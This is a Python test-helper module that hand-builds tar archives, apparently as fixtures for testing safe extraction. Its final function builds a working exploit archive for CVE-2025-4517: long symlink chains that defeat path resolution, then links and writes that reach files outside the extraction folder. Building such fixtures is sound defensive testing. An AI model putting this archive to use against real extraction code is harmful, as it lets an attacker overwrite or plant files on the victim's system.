"""Tars by hand, of members good and bad."""

import io
import tarfile

Member = tuple[tarfile.TarInfo, bytes]


def member(name: str, type_: bytes = tarfile.REGTYPE, data: bytes = b"", target: str = "", mode: int = 0o644) -> Member:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname, entry.mode, entry.size = type_, target, mode, len(data)
    return entry, data


def file(name: str, data: bytes = b"x", mode: int = 0o644) -> Member:
    return member(name, data=data, mode=mode)


def folder(name: str) -> Member:
    return member(name, tarfile.DIRTYPE)


def symlink(name: str, target: str) -> Member:
    return member(name, tarfile.SYMTYPE, target=target)


def hard_link(name: str, target: str) -> Member:
    return member(name, tarfile.LNKTYPE, target=target)


def tar_of(*members: Member, form: int = tarfile.PAX_FORMAT) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=form) as archive:
        for entry, data in members:
            archive.addfile(entry, io.BytesIO(data))
    return stream.getvalue()


def cve_2025_4517(form: int = tarfile.PAX_FORMAT) -> bytes:
    """Links whose real path is longer than the system's limit, where Python's realpath stops to resolve."""
    part, steps, path = "d" * 247, "abcdefghijklmnop", ""
    members = []
    for step in steps:
        members.append(folder(f"{path}{part}"))
        members.append(symlink(f"{path}{step}", part))
        path += f"{part}/"
    long = "/".join(steps) + "/" + "l" * 254
    members += [
        symlink(long, "../" * len(steps)),
        symlink("escape", long + "/../outside"),
        hard_link("flag", "escape/secret"),
        file("flag", b"overwritten"),
        file("escape/new", b"written"),
    ]
    return tar_of(*members, form=form)
